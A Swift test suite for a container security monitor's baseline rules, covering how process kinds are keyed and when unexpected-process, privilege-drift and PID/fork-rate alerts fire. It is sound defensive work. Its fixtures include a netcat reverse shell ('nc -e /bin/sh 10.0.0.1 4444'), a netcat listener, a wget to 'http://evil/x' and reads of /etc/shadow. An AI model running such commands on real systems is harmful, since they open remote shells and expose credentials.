import Testing
import VigilBaseline
import VigilDetect
import VigilKernel

@testable import VigilNode

/// The baseline comparator: how a process is keyed (its kind under its parent's kind), what a locked
/// baseline admits, and the alerts it raises for what it does not — a new kind, a known kind with more
/// privilege than it learned, a container holding or forking more than its workload ever did.
@Suite("Baseline rules: a locked baseline admits what it learned and alerts on the rest")
struct BaselineRulesTests {
    // A busybox workload: `sh -c 'while true; do wget ...; sleep 5; done'` as the container's first
    // process, running wget and sleep.

    /// A busybox applet run through its symlink (exe /bin/busybox, comm the applet).
    static func applet(
        _ argv: [String], pid: Int32, ppid: Int32 = 4200, uid: UInt32 = 0, euid: UInt32? = nil,
        effective: CapabilitySet? = nil, namespacePid: Int32 = 7
    ) -> TrackedProcess {
        Scenario.process(
            pid: pid, ppid: ppid, comm: String(argv[0].split(separator: "/").last ?? ""), exe: "/bin/busybox", argv: argv,
            uid: uid, euid: euid, effective: effective, namespacePid: namespacePid)
    }

    static let shell = applet(
        ["sh", "-c", "while true; do wget -q -O- http://api/health; sleep 5; done"], pid: 4200, ppid: 4100,
        namespacePid: 1)
    static let wget = applet(["wget", "-q", "-O-", "http://api/health"], pid: 4242)
    static let sleep = applet(["sleep", "5"], pid: 4243)

    /// What the loop learned: sh (first process), wget and sleep under it.
    static func loopBaseline(locked: Bool = true) throws -> Baseline {
        try BaselineScenario.baseline(
            learning: [(shell, nil), (wget, shell), (sleep, shell)], locked: locked)
    }

    // MARK: Process kinds

    struct KindCase: Sendable, CustomTestStringConvertible {
        var label: String
        var process: TrackedProcess
        var kind: ProcessKind
        var description: String

        var testDescription: String { label }
    }

    @Test(
        "a process's kind is its executable and the name it runs under",
        arguments: [
            KindCase(
                label: "busybox applet by comm", process: Scenario.busybox(["sh", "-c", "id"]),
                kind: ProcessKind(executable: "/bin/busybox", name: "sh"), description: "/bin/busybox[sh]"),
            KindCase(
                label: "busybox run by its own name names the applet",
                process: Scenario.process(
                    comm: "busybox", exe: "/bin/busybox", argv: ["busybox", "wget", "-q", "http://example.com/"]),
                kind: ProcessKind(executable: "/bin/busybox", name: "wget"), description: "/bin/busybox[wget]"),
            KindCase(
                label: "busybox run by its own name with an option is busybox",
                process: Scenario.process(comm: "busybox", exe: "/bin/busybox", argv: ["busybox", "--list"]),
                kind: ProcessKind(executable: "/bin/busybox", name: "busybox"), description: "/bin/busybox"),
            KindCase(
                label: "re-exec through /proc/self/exe (comm exe) is named by argv[0]",
                process: Scenario.process(comm: "exe", exe: "/bin/busybox", argv: ["sleep", "1"]),
                kind: ProcessKind(executable: "/bin/busybox", name: "sleep"), description: "/bin/busybox[sleep]"),
            KindCase(
                label: "a program whose file is named exe keeps its name",
                process: Scenario.process(comm: "exe", exe: "/opt/app/exe", argv: ["worker"]),
                kind: ProcessKind(executable: "/opt/app/exe", name: "exe"), description: "/opt/app/exe"),
            KindCase(
                label: "a 15-byte comm is extended from argv[0]",
                process: Scenario.process(
                    comm: "prometheus-node", exe: "/usr/bin/prometheus-node-exporter",
                    argv: ["/usr/bin/prometheus-node-exporter", "--web.listen-address=:9100"]),
                kind: ProcessKind(executable: "/usr/bin/prometheus-node-exporter", name: "prometheus-node-exporter"),
                description: "/usr/bin/prometheus-node-exporter"),
            KindCase(
                label: "a 15-byte comm is not extended from an argv[0] it does not start",
                process: Scenario.process(
                    comm: "prometheus-node", exe: "/usr/bin/prometheus-node-exporter", argv: ["exporter"]),
                kind: ProcessKind(executable: "/usr/bin/prometheus-node-exporter", name: "prometheus-node"),
                description: "/usr/bin/prometheus-node-exporter[prometheus-node]"),
            KindCase(
                label: "a shorter comm is never extended",
                process: Scenario.process(
                    comm: "kube-scheduler", exe: "/usr/local/bin/kube-scheduler", argv: ["kube-scheduler-x"]),
                kind: ProcessKind(executable: "/usr/local/bin/kube-scheduler", name: "kube-scheduler"),
                description: "/usr/local/bin/kube-scheduler"),
            KindCase(
                label: "exec -a fakename /bin/ls: argv[0] is not trusted",
                process: Scenario.process(comm: "ls", exe: "/bin/ls", argv: ["fakename", "-l"]),
                kind: ProcessKind(executable: "/bin/ls", name: "ls"), description: "/bin/ls"),
            KindCase(
                label: "exe unknown",
                process: Scenario.process(comm: "true", exe: nil, argv: ["true"]),
                kind: ProcessKind(executable: "?", name: "true"), description: "?[true]"),
        ])
    func kinds(_ example: KindCase) throws {
        let kind = try #require(ProcessKind(of: example.process))
        #expect(kind == example.kind)
        #expect(kind.description == example.description)
        // The description reads back as the same kind (baseline files hold it).
        #expect(ProcessKind(parsing: kind.description) == kind)
    }

    @Test("a 15-byte comm is what the kernel keeps of a longer name")
    func truncatedCommIsFifteenBytes() {
        #expect("prometheus-node".utf8.count == 15)
        #expect("kube-scheduler".utf8.count == 14)
    }

    @Test("a process gone before its new program was read has no kind and no key")
    func unreadHasNoKind() {
        var gone = Scenario.busybox(["sh", "-c", "id"])
        gone.unread = true
        #expect(ProcessKind(of: gone) == nil)
        #expect(BaselineRules.key(of: gone, parent: Self.shell) == nil)
        // Nor has its child: its parent's kind is unknown.
        #expect(BaselineRules.key(of: Self.wget, parent: gone) == nil)
        #expect(BaselineRules.key(of: Self.wget, parent: Self.shell) != nil)
    }

    // MARK: Parent kinds

    @Test("the container's first process (namespace pid 1) has no parent: -")
    func firstProcessHasNoParent() throws {
        #expect(ParentKind.of(Self.shell, parent: nil) == ParentKind.none)
        let key = try #require(BaselineRules.key(of: Self.shell, parent: nil))
        #expect(key.parent.description == "-")
        #expect(key.kind.description == "/bin/busybox[sh]")
    }

    @Test("a process started from outside the container (no followed parent) has parent outside")
    func noFollowedParentIsOutside() throws {
        #expect(ParentKind.of(Self.wget, parent: nil) == .outside)
        let key = try #require(BaselineRules.key(of: Self.wget, parent: nil))
        #expect(key.parent.description == "outside")
    }

    @Test("a parent in another container is outside")
    func parentInAnotherContainerIsOutside() {
        var foreign = Self.shell
        foreign.container = "/docker/" + String(repeating: "cd", count: 32)
        #expect(ParentKind.of(Self.wget, parent: foreign) == .outside)
        #expect(BaselineRules.key(of: Self.wget, parent: foreign)?.parent == .outside)
    }

    @Test("a parent in the container is its kind")
    func parentInTheContainerIsItsKind() throws {
        let parent = try #require(ParentKind.of(Self.wget, parent: Self.shell))
        #expect(parent == .process(ProcessKind(executable: "/bin/busybox", name: "sh")))
        #expect(parent.description == "/bin/busybox[sh]")
        let key = try #require(BaselineRules.key(of: Self.wget, parent: Self.shell))
        #expect(key == (try BaselineScenario.key("/bin/busybox[wget]", parent: "/bin/busybox[sh]")))
    }

    // MARK: unexpected_process

    @Test("a locked baseline admits every kind it learned, under the parent it learned")
    func learnedKindsAreAdmitted() throws {
        let baseline = try Self.loopBaseline()
        #expect(baseline.processes.count == 3)
        #expect(try BaselineScenario.inspect(Self.shell, parent: nil, baseline: baseline).isEmpty)
        // Another wget and sleep, new pids and arguments: the same kinds.
        let wget = Self.applet(["wget", "-q", "http://api/ready"], pid: 5000)
        let sleep = Self.applet(["sleep", "30"], pid: 5001)
        #expect(try BaselineScenario.inspect(wget, parent: Self.shell, baseline: baseline).isEmpty)
        #expect(try BaselineScenario.inspect(sleep, parent: Self.shell, baseline: baseline).isEmpty)
    }

    @Test("an entry with parent * admits its kind under any parent")
    func anyParentEntryAdmitsAnyParent() throws {
        var baseline = try Self.loopBaseline()
        let sleepAnywhere = try BaselineScenario.key("/bin/busybox[sleep]", parent: "*")
        baseline.processes[sleepAnywhere] = ProcessEntry(users: [0], capabilities: .dockerDefault, seen: 1)
        let cat = Self.applet(["cat", "/etc/hostname"], pid: 4300)
        let sleep = Self.applet(["sleep", "1"], pid: 4301, ppid: 4300)
        #expect(try BaselineScenario.inspect(sleep, parent: nil, baseline: baseline).isEmpty)  // outside
        #expect(try BaselineScenario.inspect(sleep, parent: cat, baseline: baseline).isEmpty)
        // Only its kind: a * entry for sleep admits no other applet.
        let alerts = try BaselineScenario.inspect(cat, parent: nil, baseline: baseline)
        #expect(alerts.of(.unexpectedProcess).count == 1)
    }

    @Test("a kind not in the baseline raises one Warning unexpected_process naming kind, parent and closest")
    func newKindRaisesOneAlert() throws {
        let baseline = try Self.loopBaseline()
        let nc = Self.applet(["nc", "-e", "/bin/sh", "10.0.0.1", "4444"], pid: 4444)
        let alerts = try BaselineScenario.inspect(nc, parent: Self.shell, baseline: baseline)
        let alert = try #require(alerts.first)
        #expect(alerts.count == 1)
        #expect(alert.rule == .unexpectedProcess)
        #expect(alert.priority == .warning)
        #expect(alert.time == Scenario.time)
        #expect(alert.field("vigil.baseline.kind") == .string("/bin/busybox[nc]"))
        #expect(alert.field("vigil.baseline.parent") == .string("/bin/busybox[sh]"))
        // No nc anywhere: the nearest is an applet under the same parent (the first by order).
        #expect(alert.field("vigil.baseline.closest") == .string("/bin/busybox[sleep] (parent /bin/busybox[sh])"))
        #expect(alert.container?.id == Scenario.containerID)
        #expect(alert.container?.workload == BaselineScenario.workload)
        #expect(alert.process?.pid == 4444)
        #expect(alert.process?.cmdline == ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"])
        #expect(alert.output.contains("/bin/busybox[nc]"))
        #expect(alert.output.contains("started by /bin/busybox[sh]"))
        #expect(alert.output.contains("image:nginx:1.25"))
    }

    @Test("the closest entry of a known kind under a new parent is that kind under its learned parent")
    func closestIsTheSameKindUnderAnotherParent() throws {
        let baseline = try Self.loopBaseline()
        // `docker exec web wget ...`: wget is known, but under sh, not from outside.
        let exec = Self.applet(["wget", "http://evil/x"], pid: 6000, ppid: 1)
        let alert = try #require(try BaselineScenario.inspect(exec, parent: nil, baseline: baseline).first)
        #expect(alert.rule == .unexpectedProcess)
        #expect(alert.field("vigil.baseline.kind") == .string("/bin/busybox[wget]"))
        #expect(alert.field("vigil.baseline.parent") == .string("outside"))
        #expect(alert.field("vigil.baseline.closest") == .string("/bin/busybox[wget] (parent /bin/busybox[sh])"))
        #expect(alert.output.contains("from outside the container"))
    }

    @Test("with nothing like it in the baseline, closest is null")
    func closestIsNullWhenNothingIsNear() throws {
        var baseline = Baseline(workload: BaselineScenario.workload, created: Scenario.time)
        BaselineScenario.lock(&baseline)
        let ls = Scenario.process(comm: "ls", exe: "/bin/ls", argv: ["ls"])
        let alert = try #require(try BaselineScenario.inspect(ls, parent: nil, baseline: baseline).first)
        #expect(alert.field("vigil.baseline.closest") == FieldValue.null)
        #expect(!alert.output.contains("closest known"))
    }

    @Test("alerts deduplicate by kind and parent: the same kind twice is one subject, other kinds are not")
    func subjectIsKindAndParent() throws {
        let baseline = try Self.loopBaseline()
        let first = Self.applet(["cat", "/etc/passwd"], pid: 7000)
        let second = Self.applet(["cat", "/etc/shadow"], pid: 7001)
        let other = Self.applet(["id"], pid: 7002)
        var catOutside = Self.applet(["cat", "/etc/passwd"], pid: 7003)
        catOutside.ppid = 1
        let a = try #require(try BaselineScenario.inspect(first, parent: Self.shell, baseline: baseline).first)
        let b = try #require(try BaselineScenario.inspect(second, parent: Self.shell, baseline: baseline).first)
        let c = try #require(try BaselineScenario.inspect(other, parent: Self.shell, baseline: baseline).first)
        let d = try #require(try BaselineScenario.inspect(catOutside, parent: nil, baseline: baseline).first)
        #expect(a.dedupKey == b.dedupKey)
        #expect(a.dedupKey != c.dedupKey)
        #expect(a.dedupKey != d.dedupKey)
        #expect(a.subject == "/bin/busybox[cat]|/bin/busybox[sh]")
    }

    @Test("a learning baseline raises nothing, whatever runs")
    func learningBaselineRaisesNothing() throws {
        let baseline = try Self.loopBaseline(locked: false)
        #expect(baseline.state == .learning)
        let nc = Self.applet(["nc", "-lp", "4444"], pid: 4444)
        #expect(try BaselineScenario.inspect(nc, parent: Self.shell, baseline: baseline).isEmpty)
        let root = Self.applet(["wget", "http://x"], pid: 4445, uid: 0, effective: .all(upTo: 40))
        #expect(try BaselineScenario.inspect(root, parent: Self.shell, baseline: baseline).isEmpty)
        let switched = Self.applet(["wget", "http://x"], pid: 4446, uid: 0, euid: 1234)
        #expect(
            try BaselineScenario.inspectCredentials(switched, previousEUID: 0, parent: Self.shell, baseline: baseline)
                .isEmpty)
        // The same baseline, locked, does alert on nc.
        var locked = baseline
        BaselineScenario.lock(&locked)
        #expect(try BaselineScenario.inspect(nc, parent: Self.shell, baseline: locked).count == 1)
    }

    // MARK: The `?` executable

    /// `true` run by the loop, gone before its exe could be read.
    static let vanishedTrue = Scenario.process(pid: 4250, comm: "true", exe: nil, argv: [])

    @Test("a process gone before its exe was read is admitted by its name's learned kind under the same parent")
    func unknownExecutableMatchesLearnedKind() throws {
        let key = try #require(BaselineRules.key(of: Self.vanishedTrue, parent: Self.shell))
        #expect(key.kind.description == "?[true]")
        let baseline = try BaselineScenario.baseline(
            learning: [(Self.shell, nil), (Self.applet(["true"], pid: 4251), Self.shell)])
        #expect(try BaselineScenario.inspect(Self.vanishedTrue, parent: Self.shell, baseline: baseline).isEmpty)
        // Under another parent it is still new.
        let alerts = try BaselineScenario.inspect(Self.vanishedTrue, parent: nil, baseline: baseline)
        #expect(alerts.of(.unexpectedProcess).count == 1)
        #expect(alerts.first?.field("vigil.baseline.kind") == .string("?[true]"))
    }

    @Test("a kind learned with exe ? admits the full kind of that name under the same parent")
    func learnedUnknownExecutableAdmitsFullKind() throws {
        let baseline = try BaselineScenario.baseline(learning: [(Self.shell, nil), (Self.vanishedTrue, Self.shell)])
        #expect(baseline.processes.keys.contains(try BaselineScenario.key("?[true]", parent: "/bin/busybox[sh]")))
        let full = Self.applet(["true"], pid: 4260)
        #expect(try BaselineScenario.inspect(full, parent: Self.shell, baseline: baseline).isEmpty)
        // Matching is by name: false is not true.
        let other = Self.applet(["false"], pid: 4261)
        #expect(try BaselineScenario.inspect(other, parent: Self.shell, baseline: baseline).count == 1)
        // Nor under another parent.
        #expect(try BaselineScenario.inspect(full, parent: nil, baseline: baseline).count == 1)
    }

    @Test("learning a vanished process of a known name joins the known kind")
    func learningUnknownExecutableJoinsKnownKind() throws {
        let baseline = try BaselineScenario.baseline(
            learning: [(Self.shell, nil), (Self.applet(["true"], pid: 4251), Self.shell), (Self.vanishedTrue, Self.shell)])
        #expect(baseline.processes.count == 2)
        let entry = try #require(baseline.processes[try BaselineScenario.key("/bin/busybox[true]", parent: "/bin/busybox[sh]")])
        #expect(entry.seen == 2)
    }

    // MARK: privilege_drift

    @Test("a known kind running as a user it never ran as is privilege_drift")
    func newUserIsDrift() throws {
        let baseline = try Self.loopBaseline()
        let asUser = Self.applet(["wget", "-q", "http://api/health"], pid: 4700, uid: 1000)
        let alerts = try BaselineScenario.inspect(asUser, parent: Self.shell, baseline: baseline)
        let alert = try #require(alerts.first)
        #expect(alerts.count == 1)
        #expect(alert.rule == .privilegeDrift)
        #expect(alert.priority == .error)
        #expect(alert.field("vigil.baseline.kind") == .string("/bin/busybox[wget]"))
        #expect(alert.field("vigil.baseline.users") == .strings(["0"]))
        // As user 1000 it holds no capabilities: nothing beyond the learned set.
        #expect(alert.field("vigil.baseline.capabilities_added") == nil)
        #expect(alert.output.contains("runs as user 1000, learned as 0"))
        #expect(alert.process?.pid == 4700)
        #expect(alert.container?.id == Scenario.containerID)
    }

    @Test("effective capabilities beyond the learned union are privilege_drift, listing those added")
    func extraCapabilitiesAreDrift() throws {
        let chown = BaselineScenario.capabilities(0)
        let setuid = BaselineScenario.capabilities(7)
        let nginx = { (pid: Int32, effective: CapabilitySet) in
            Scenario.process(
                pid: pid, ppid: 4100, comm: "nginx", exe: "/usr/sbin/nginx", argv: ["nginx", "-g", "daemon off;"],
                effective: effective, namespacePid: 1)
        }
        let baseline = try BaselineScenario.baseline(learning: [(nginx(10, chown), nil), (nginx(11, setuid), nil)])
        let entry = try #require(baseline.processes.values.first)
        #expect(entry.capabilities == chown.union(setuid))

        // Within the union (more than either sighting held): nothing.
        #expect(try BaselineScenario.inspect(nginx(12, chown.union(setuid)), parent: nil, baseline: baseline).isEmpty)
        #expect(try BaselineScenario.inspect(nginx(13, .empty), parent: nil, baseline: baseline).isEmpty)

        // NET_ADMIN (12) and SYS_ADMIN (21) beyond it.
        let escalated = nginx(14, chown.union(BaselineScenario.capabilities(12, 21)))
        let alerts = try BaselineScenario.inspect(escalated, parent: nil, baseline: baseline)
        let alert = try #require(alerts.first)
        #expect(alerts.count == 1)
        #expect(alert.rule == .privilegeDrift)
        #expect(alert.field("vigil.baseline.capabilities_added") == .strings(["CAP_NET_ADMIN", "CAP_SYS_ADMIN"]))
        #expect(alert.field("vigil.baseline.users") == nil)  // user 0, as learned
        #expect(alert.output.contains("net_admin,sys_admin"))
    }

    @Test("a new user and new capabilities are one alert with both reasons")
    func userAndCapabilitiesAreOneAlert() throws {
        let worker = Scenario.process(
            pid: 20, ppid: 10, comm: "nginx", exe: "/usr/sbin/nginx", argv: ["nginx: worker process"], uid: 101)
        let master = Scenario.process(
            pid: 10, ppid: 4100, comm: "nginx", exe: "/usr/sbin/nginx", argv: ["nginx", "-g", "daemon off;"],
            namespacePid: 1)
        let baseline = try BaselineScenario.baseline(learning: [(master, nil), (worker, master)])
        // A worker running as root with Docker's default set.
        let rootWorker = Scenario.process(
            pid: 21, ppid: 10, comm: "nginx", exe: "/usr/sbin/nginx", argv: ["nginx: worker process"], uid: 0)
        let alerts = try BaselineScenario.inspect(rootWorker, parent: master, baseline: baseline)
        let alert = try #require(alerts.first)
        #expect(alerts.count == 1)
        #expect(alert.field("vigil.baseline.users") == .strings(["101"]))
        #expect(alert.field("vigil.baseline.capabilities_added") == .strings(CapabilitySet.dockerDefault.names))
    }

    @Test("entries with users=* and caps=* never drift")
    func wildcardEntriesNeverDrift() throws {
        var baseline = try Self.loopBaseline()
        let key = try BaselineScenario.key("/bin/busybox[wget]", parent: "/bin/busybox[sh]")
        baseline.processes[key] = ProcessEntry(users: nil, capabilities: nil, seen: 0)
        let anything = Self.applet(["wget", "http://x"], pid: 4800, uid: 4242, effective: .all(upTo: 40))
        #expect(try BaselineScenario.inspect(anything, parent: Self.shell, baseline: baseline).isEmpty)
        let root = Self.applet(["wget", "http://x"], pid: 4801, uid: 1000, euid: 0, effective: .all(upTo: 40))
        #expect(try BaselineScenario.inspect(root, parent: Self.shell, baseline: baseline).isEmpty)
        #expect(
            try BaselineScenario.inspectCredentials(root, previousEUID: 1000, parent: Self.shell, baseline: baseline)
                .isEmpty)

        // users=* alone still checks capabilities; caps=* alone still checks users.
        baseline.processes[key] = ProcessEntry(users: nil, capabilities: .dockerDefault, seen: 1)
        #expect(try BaselineScenario.inspect(anything, parent: Self.shell, baseline: baseline).of(.privilegeDrift).count == 1)
        baseline.processes[key] = ProcessEntry(users: [0], capabilities: nil, seen: 1)
        let alerts = try BaselineScenario.inspect(anything, parent: Self.shell, baseline: baseline)
        #expect(alerts.of(.privilegeDrift).count == 1)
        #expect(alerts.first?.field("vigil.baseline.capabilities_added") == nil)
    }

    @Test("a change of user to one not learned for the kind is privilege_drift")
    func credentialsChangeToUnlearnedUserIsDrift() throws {
        let baseline = try Self.loopBaseline()
        // wget learned as root, now setuid(65534).
        let switched = Self.applet(["wget", "http://x"], pid: 4900, uid: 0, euid: 65534)
        let alerts = try BaselineScenario.inspectCredentials(
            switched, previousEUID: 0, parent: Self.shell, baseline: baseline)
        let alert = try #require(alerts.first)
        #expect(alerts.count == 1)
        #expect(alert.rule == .privilegeDrift)
        #expect(alert.priority == .error)
        #expect(alert.field("vigil.baseline.kind") == .string("/bin/busybox[wget]"))
        #expect(alert.field("vigil.baseline.users") == .strings(["0"]))
        #expect(alert.output.contains("changed to user 65534 from 0, learned as 0"))
        #expect(alert.process?.pid == 4900)

        // To a learned user: nothing. An unknown kind: not this rule's business.
        let back = Self.applet(["wget", "http://x"], pid: 4901, uid: 65534, euid: 0)
        #expect(
            try BaselineScenario.inspectCredentials(back, previousEUID: 65534, parent: Self.shell, baseline: baseline)
                .isEmpty)
        let unknown = Self.applet(["nc", "-l"], pid: 4902, uid: 0, euid: 65534)
        #expect(
            try BaselineScenario.inspectCredentials(unknown, previousEUID: 0, parent: Self.shell, baseline: baseline)
                .isEmpty)
    }

    @Test("drift alerts deduplicate by kind, user and capabilities")
    func driftSubject() throws {
        let baseline = try Self.loopBaseline()
        let a = try #require(
            try BaselineScenario.inspect(Self.applet(["wget", "a"], pid: 1, uid: 1000), parent: Self.shell, baseline: baseline)
                .first)
        let b = try #require(
            try BaselineScenario.inspect(Self.applet(["wget", "b"], pid: 2, uid: 1000), parent: Self.shell, baseline: baseline)
                .first)
        let c = try #require(
            try BaselineScenario.inspect(Self.applet(["wget", "c"], pid: 3, uid: 1001), parent: Self.shell, baseline: baseline)
                .first)
        #expect(a.dedupKey == b.dedupKey)
        #expect(a.dedupKey != c.dedupKey)
    }

    // MARK: Rule settings

    static let nc = applet(["nc", "-lp", "4444"], pid: 4444)

    @Test("unexpected_process disabled raises nothing; privilege_drift still runs")
    func disabledUnexpectedProcess() throws {
        let baseline = try Self.loopBaseline()
        let configuration = Scenario.configuration(.unexpectedProcess) { $0.enabled = false }
        #expect(
            try BaselineScenario.inspect(Self.nc, parent: Self.shell, baseline: baseline, configuration: configuration)
                .isEmpty)
        let asUser = Self.applet(["wget", "x"], pid: 4701, uid: 1000)
        #expect(
            try BaselineScenario.inspect(asUser, parent: Self.shell, baseline: baseline, configuration: configuration)
                .of(.privilegeDrift).count == 1)
    }

    @Test("privilege_drift disabled raises nothing, on exec or on a change of user")
    func disabledPrivilegeDrift() throws {
        let baseline = try Self.loopBaseline()
        let configuration = Scenario.configuration(.privilegeDrift) { $0.enabled = false }
        let asUser = Self.applet(["wget", "x"], pid: 4701, uid: 1000)
        #expect(
            try BaselineScenario.inspect(asUser, parent: Self.shell, baseline: baseline, configuration: configuration)
                .isEmpty)
        #expect(
            try BaselineScenario.inspectCredentials(
                asUser, previousEUID: 0, parent: Self.shell, baseline: baseline, configuration: configuration
            ).isEmpty)
    }

    @Test(
        "except_workloads silences the rule for the workload (exact or prefix), not for others",
        arguments: [("image:nginx:1.25", true), ("image:nginx:*", true), ("image:redis:*", false)])
    func exceptWorkloads(pattern: String, silenced: Bool) throws {
        let baseline = try Self.loopBaseline()
        let unexpected = Scenario.configuration(.unexpectedProcess) { $0.exceptWorkloads = [pattern] }
        let alerts = try BaselineScenario.inspect(
            Self.nc, parent: Self.shell, baseline: baseline, configuration: unexpected)
        #expect(alerts.isEmpty == silenced)
        let drift = Scenario.configuration(.privilegeDrift) { $0.exceptWorkloads = [pattern] }
        let asUser = Self.applet(["wget", "x"], pid: 4701, uid: 1000)
        #expect(
            try BaselineScenario.inspect(asUser, parent: Self.shell, baseline: baseline, configuration: drift).isEmpty
                == silenced)
    }

    @Test(
        "except_exes silences the rule by executable path or by name",
        arguments: [("/bin/busybox", true), ("/bin/busy*", true), ("nc", true), ("/usr/bin/nc", false), ("ncat", false)])
    func exceptExes(pattern: String, silenced: Bool) throws {
        let baseline = try Self.loopBaseline()
        let configuration = Scenario.configuration(.unexpectedProcess) { $0.exceptExes = [pattern] }
        let alerts = try BaselineScenario.inspect(
            Self.nc, parent: Self.shell, baseline: baseline, configuration: configuration)
        #expect(alerts.isEmpty == silenced)
    }

    @Test("except_parents silences the rule by the parent's name")
    func exceptParents() throws {
        let baseline = try Self.loopBaseline()
        let configuration = Scenario.configuration(.unexpectedProcess) { $0.exceptParents = ["sh"] }
        #expect(
            try BaselineScenario.inspect(Self.nc, parent: Self.shell, baseline: baseline, configuration: configuration)
                .isEmpty)
        // From outside there is no parent name to except.
        #expect(
            try BaselineScenario.inspect(Self.nc, parent: nil, baseline: baseline, configuration: configuration).count
                == 1)
    }

    @Test("a priority override applies to both rules")
    func priorityOverrides() throws {
        let baseline = try Self.loopBaseline()
        var configuration = Scenario.configuration(.unexpectedProcess) { $0.priority = .critical }
        configuration.rules[.privilegeDrift, default: .init()].priority = .notice
        let unexpected = try BaselineScenario.inspect(
            Self.nc, parent: Self.shell, baseline: baseline, configuration: configuration)
        #expect(unexpected.map(\.priority) == [.critical])
        let asUser = Self.applet(["wget", "x"], pid: 4701, uid: 1000)
        let drift = try BaselineScenario.inspect(asUser, parent: Self.shell, baseline: baseline, configuration: configuration)
        #expect(drift.map(\.priority) == [.notice])
    }

    // MARK: pids_excess and fork_rate_excess

    @Test("the limits are factor × max(learned, floor), rounded up")
    func thresholdLimits() {
        let thresholds = BaselineRules.Thresholds()
        #expect(thresholds.pidsLimit(learned: 20) == 40)
        #expect(thresholds.pidsLimit(learned: 1) == 16)
        #expect(thresholds.forkRateLimit(learned: 10) == 40)
        #expect(thresholds.forkRateLimit(learned: 0) == 20)
        var custom = thresholds
        custom.pidsFactor = 1.5
        custom.pidsFloor = 0
        #expect(custom.pidsLimit(learned: 7) == 11)  // 10.5 rounded up
    }

    @Test("more PIDs than factor × the learned high is one Warning pids_excess; at the limit, nothing")
    func pidsExcess() throws {
        let baseline = BaselineScenario.baseline(pidsHigh: 20, forkRateHigh: 10)
        #expect(BaselineScenario.counters(pids: 40, forkRate: nil, baseline: baseline).isEmpty)
        #expect(BaselineScenario.counters(pids: 20, forkRate: 3, baseline: baseline).isEmpty)
        let alerts = BaselineScenario.counters(pids: 41, forkRate: nil, baseline: baseline)
        let alert = try #require(alerts.first)
        #expect(alerts.count == 1)
        #expect(alert.rule == .pidsExcess)
        #expect(alert.priority == .warning)
        #expect(alert.field("vigil.pids.current") == .int(41))
        #expect(alert.field("vigil.baseline.pids_high") == .int(20))
        #expect(alert.container?.id == Scenario.containerID)
        #expect(alert.process == nil)
        #expect(alert.output.contains("holds 41 PIDs, more than 40"))
    }

    @Test("forking faster than factor × the learned high is one Warning fork_rate_excess; at the limit, nothing")
    func forkRateExcess() throws {
        let baseline = BaselineScenario.baseline(pidsHigh: 20, forkRateHigh: 10)
        #expect(BaselineScenario.counters(pids: nil, forkRate: 40, baseline: baseline).isEmpty)
        let alerts = BaselineScenario.counters(pids: nil, forkRate: 41, baseline: baseline)
        let alert = try #require(alerts.first)
        #expect(alerts.count == 1)
        #expect(alert.rule == .forkRateExcess)
        #expect(alert.priority == .warning)
        #expect(alert.field("vigil.fork_rate") == .int(41))
        #expect(alert.field("vigil.baseline.fork_rate_high") == .int(10))
        #expect(alert.output.contains("forks 41 times a second, more than 40"))
        // Both at once: two alerts, distinct subjects.
        let both = BaselineScenario.counters(pids: 100, forkRate: 100, baseline: baseline)
        #expect(both.map(\.rule) == [.pidsExcess, .forkRateExcess])
        #expect(Set(both.map(\.dedupKey)).count == 2)
    }

    @Test("a workload that learned 1 PID and no forks is held to the floors, not to 2 and 0")
    func floorsApply() {
        let baseline = BaselineScenario.baseline(pidsHigh: 1, forkRateHigh: 0)
        // A health check's few processes: under 2 × 8 PIDs and 4 × 5 forks a second.
        #expect(BaselineScenario.counters(pids: 16, forkRate: 20, baseline: baseline).isEmpty)
        #expect(BaselineScenario.counters(pids: 17, forkRate: nil, baseline: baseline).map(\.rule) == [.pidsExcess])
        #expect(BaselineScenario.counters(pids: nil, forkRate: 21, baseline: baseline).map(\.rule) == [.forkRateExcess])
    }

    @Test("configured factors and floors are used")
    func configuredThresholds() {
        let baseline = BaselineScenario.baseline(pidsHigh: 1, forkRateHigh: 0)
        var configuration = DetectionConfiguration()
        configuration.baselineThresholds.pidsFloor = 2
        configuration.baselineThresholds.pidsFactor = 3
        configuration.baselineThresholds.forkRateFloor = 1
        configuration.baselineThresholds.forkRateFactor = 1
        #expect(BaselineScenario.counters(pids: 6, forkRate: 1, baseline: baseline, configuration: configuration).isEmpty)
        #expect(
            BaselineScenario.counters(pids: 7, forkRate: 2, baseline: baseline, configuration: configuration).map(\.rule)
                == [.pidsExcess, .forkRateExcess])
    }

    @Test("a learning baseline raises no counter alerts")
    func learningBaselineHasNoCounterAlerts() {
        let learning = BaselineScenario.baseline(pidsHigh: 1, forkRateHigh: 0, locked: false)
        #expect(BaselineScenario.counters(pids: 10_000, forkRate: 10_000, baseline: learning).isEmpty)
        var locked = learning
        BaselineScenario.lock(&locked)
        #expect(BaselineScenario.counters(pids: 10_000, forkRate: 10_000, baseline: locked).count == 2)
    }

    @Test("counter rules honour enabled, except_workloads and priority")
    func counterRuleSettings() {
        let baseline = BaselineScenario.baseline(pidsHigh: 20, forkRateHigh: 10)
        var configuration = Scenario.configuration(.pidsExcess) { $0.enabled = false }
        configuration.rules[.forkRateExcess, default: .init()].priority = .critical
        let alerts = BaselineScenario.counters(pids: 100, forkRate: 100, baseline: baseline, configuration: configuration)
        #expect(alerts.map(\.rule) == [.forkRateExcess])
        #expect(alerts.map(\.priority) == [.critical])
        let excepted = Scenario.configuration(.forkRateExcess) { $0.exceptWorkloads = ["image:nginx:*"] }
        #expect(
            BaselineScenario.counters(pids: 100, forkRate: 100, baseline: baseline, configuration: excepted).map(\.rule)
                == [.pidsExcess])
    }
}
